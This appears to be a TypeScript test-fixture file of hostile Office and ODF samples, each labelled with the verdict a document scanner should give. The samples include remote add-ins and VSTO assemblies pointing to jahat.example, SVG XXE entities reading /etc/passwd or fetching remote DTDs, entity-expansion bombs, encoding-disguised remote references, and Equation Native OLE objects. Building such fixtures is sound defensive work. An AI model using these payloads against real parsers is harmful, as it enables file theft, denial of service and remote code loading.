import type { HostileFile } from './hostile-files';
import { officeWith as of } from './office-with';

const addIn = of('docx', 'officeAddIn');
const PANES = 'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes';
const related = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="${type}" Target="${target}"/></Relationships>`;
const EXTENSION =
  '<?xml version="1.0"?><we:webextension id="{1}"><we:reference id="wa1" version="1.0" store="https://jahat.example/a.xml" storeType="Uri"/></we:webextension>';
const property = (name: string, value: string) =>
  `<Properties><property fmtid="{D}" pid="2" name="${name}"><vt:lpwstr>${value}</vt:lpwstr></property></Properties>`;

/** Programs of the web and of .NET that a document brings along. */
const ADD_INS: HostileFile[] = [
  addIn('a page of the web beside it', {
    'word/_rels/document.xml.rels': related(PANES, 'word/webextensions/taskpanes.xml'),
    'word/webextensions/taskpanes.xml':
      '<wetp:taskpanes><wetp:taskpane dockstate="right" visibility="1"><wetp:webextensionref r:id="r1"/></wetp:taskpane></wetp:taskpanes>',
    'word/webextensions/webextension1.xml': EXTENSION,
  }),
  addIn('a page of the web beside it, by its relationship alone', {
    'word/_rels/document.xml.rels': related(PANES.replace('/taskpanes', ''), 'word/a.dat'),
  }),
  addIn('a page of the web under another name', { 'word/theme/theme1.dat': EXTENSION }),
  addIn('a page of the web in UTF-16', {
    'word/a.bin': Buffer.from(`\ufeff${EXTENSION}`, 'utf16le'),
  }),
  addIn('a page of the web within it', {
    'word/document.xml':
      '<w:document><a:graphic><a:graphicData><we:webextensionref r:id="r1"/></a:graphicData></a:graphic></w:document>',
  }),
  of('xlsx', 'officeAddIn')('a page of the web beside it', {
    'xl/webextensions/webextension1.xml': EXTENSION,
  }),
  addIn('a program of .NET that it has loaded', {
    'docProps/custom.xml': property(
      '_AssemblyLocation',
      'https://jahat.example/a.vsto|1|vstolocal',
    ),
  }),
  addIn('a program of .NET whose property is spelled by numbers', {
    'docProps/custom.xml': property('&#95;AssemblyName', '4A3803EA'),
  }),
  of('ods', 'officeMacro')('an applet', {
    'content.xml':
      '<office:document-content><draw:applet draw:code="a.class"/></office:document-content>',
  }),
  of('docx', null)('words about add-ins, and properties of its own', {
    'word/document.xml':
      '<w:document><w:t>webextension, taskpanes, _AssemblyName</w:t></w:document>',
    'docProps/custom.xml': property('Nomor SK', '12/2024'),
  }),
];

const drawing = (inside: string, root = '<svg xmlns="&ns_svg;"/>') => ({
  'word/media/image2.svg': `<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: a drawing program -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n${inside}\n]>\n${root}`,
});
const NAMESPACES =
  '<!ENTITY ns_svg "http://www.w3.org/2000/svg"> <!ENTITY ns_xlink \'http://www.w3.org/1999/xlink\'>';
const goodDrawing = of('docx', null);
const badDrawing = of('docx', 'officeOutside');

/** Drawings and other parts that declare names for texts. */
const DECLARED: HostileFile[] = [
  goodDrawing('a drawing that names its namespaces', {
    ...drawing(
      `${NAMESPACES}<!-- a --><!ELEMENT svg ANY><!ATTLIST svg id ID #IMPLIED>`,
      '<svg xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;"><style><![CDATA[.a{}]]></style><use xlink:href="#a"/></svg>',
    ),
  }),
  badDrawing('a drawing that names a picture elsewhere', {
    ...drawing('<!ENTITY a "https://jahat.example/a.png">', '<svg><image xlink:href="&a;"/></svg>'),
  }),
  badDrawing('a drawing that names a picture elsewhere in pieces', {
    ...drawing(
      '<!ENTITY a "ht"><!ENTITY b "tps:">',
      '<svg><image href="&a;&b;//jahat.example"/></svg>',
    ),
  }),
  badDrawing('a field in pieces', {
    'word/document.xml':
      '<!DOCTYPE w [<!ENTITY a "INCLUDE"><!ENTITY a "x">]><w:document><w:fldChar w:fldCharType="begin"/><w:instrText>&a;PICTURE "https://jahat.example/a.png"</w:instrText><w:fldChar w:fldCharType="end"/></w:document>',
  }),
  badDrawing('a text of the machine', drawing('<!ENTITY a SYSTEM "file:///etc/passwd">')),
  badDrawing('declarations from elsewhere', drawing('<!ENTITY % a SYSTEM "https://a/b"> %a;')),
  badDrawing('definitions from elsewhere', {
    'word/media/image2.svg': '<!DOCTYPE svg SYSTEM "https://jahat.example/a.dtd"><svg/>',
  }),
  badDrawing('names for markup', drawing('<!ENTITY a "<b/>">'), 'officeBomb'),
  badDrawing('names for names', drawing('<!ENTITY a "b"><!ENTITY c "&a;&a;">'), 'officeBomb'),
  badDrawing('a name for a sign of XML', drawing('<!ENTITY lt "x">'), 'officeBomb'),
  badDrawing('a thousand names', drawing(names(1000)), 'officeBomb'),
  badDrawing('a long name', drawing(`<!ENTITY a "${'x'.repeat(9000)}">`), 'officeBomb'),
  badDrawing(
    'a name said a hundred thousand times',
    drawing(
      `<!ENTITY a "${'x'.repeat(250)}">`,
      `<svg><a href="#"/><instrText>${'&a;'.repeat(100_000)}</instrText></svg>`,
    ),
    'officeBomb',
  ),
  badDrawing(
    'a value given by default',
    drawing('<!ATTLIST image xlink:href CDATA "https://jahat.example/a.png">'),
    'officeBroken',
  ),
  badDrawing(
    'declarations without end',
    { 'word/a.svg': '<!DOCTYPE svg [ <svg/>' },
    'officeBroken',
  ),
  badDrawing(
    'a list of parts that declares names',
    { 'META-INF/manifest.xml': '<!DOCTYPE a [<!ENTITY a "b">]><a/>' },
    'officeBomb',
  ),
  badDrawing(
    'a million blanks where declarations begin',
    { 'word/a.svg': `<!DOCTYPE svg${' '.repeat(1_000_000)}!` },
    'officeBroken',
  ),
];

function names(count: number): string {
  return Array.from({ length: count }, (_, at) => `<!ENTITY a${at} "b">`).join('');
}

const styles = (encoding: string, inside: Buffer | string = '') => ({
  'word/styles.xml': Buffer.concat([
    Buffer.from(`<?xml version="1.0" encoding="${encoding}"?><w:styles>`),
    Buffer.from(inside as string),
    Buffer.from('</w:styles>'),
  ]),
});
/** Letters of Shift_JIS, one of whose bytes is that of a backslash. */
const JAPANESE = Buffer.from('838083568360835c', 'hex');
const unread = of('docx', 'officeEncoding');

/** Parts in encodings of other programs. */
const ENCODED: HostileFile[] = [
  ...['Shift_JIS', 'windows-31j', 'x-sjis'].map((encoding) =>
    goodDrawing(`styles in ${encoding}`, styles(encoding, JAPANESE)),
  ),
  ...['EUC-JP', 'GB18030', 'Big5', 'EUC-KR', 'ISO-2022-JP', 'latin1'].map((encoding) =>
    goodDrawing(`styles in ${encoding}`, styles(encoding)),
  ),
  badDrawing('a picture elsewhere in Shift_JIS', {
    'word/document.xml': styles('Shift_JIS', '<v:fill src="//jahat.example/a"/>')[
      'word/styles.xml'
    ],
  }),
  badDrawing('a picture elsewhere behind turns of the alphabet', {
    'word/document.xml': styles(
      'ISO-2022-JP',
      '<a h\x1b(Bref="x"/><b hr\x1b(Bef="https://a.example"/>',
    )['word/styles.xml'],
  }),
  badDrawing(
    'letters that are none',
    styles('Shift_JIS', Buffer.from([0x83, 0xff])),
    'officeBroken',
  ),
  ...['UTF-7', 'IBM037', 'x-user-defined', 'UTF-16', 'hz-gb-2312', 'klingon'].map((encoding) =>
    unread(`styles said to be in ${encoding}`, styles(encoding)),
  ),
  unread('styles in UCS-4', {
    'word/styles.xml': Buffer.from('0000003c0000003f0000007800000000', 'hex'),
  }),
];

/** An object of another program with a stream of that name in its directory, behind so many bytes. */
function object(stream: string, behind: number): Buffer {
  const mark = Buffer.from('d0cf11e0a1b11ae1', 'hex');
  return Buffer.concat([
    mark,
    Buffer.alloc(behind),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(64),
  ]);
}
const equation = of('docx', 'officeEquation');

/** Equations of programs before today's. */
const EQUATIONS: HostileFile[] = [
  equation('an old equation', {
    'word/embeddings/oleObject1.bin': object('Equation Native', 1024),
  }),
  equation('an old equation far inside', {
    'word/embeddings/oleObject1.bin': object('Equation Native', 65_520),
  }),
  of('ods', 'officeEquation')('an old equation', { 'Object 1': object('Equation Native', 1024) }),
  equation(
    'an old text inside',
    { 'word/embeddings/oleObject1.bin': object('WordDocument', 1024) },
    'officeNested',
  ),
];

export const BROUGHT: HostileFile[] = [...ADD_INS, ...DECLARED, ...ENCODED, ...EQUATIONS];
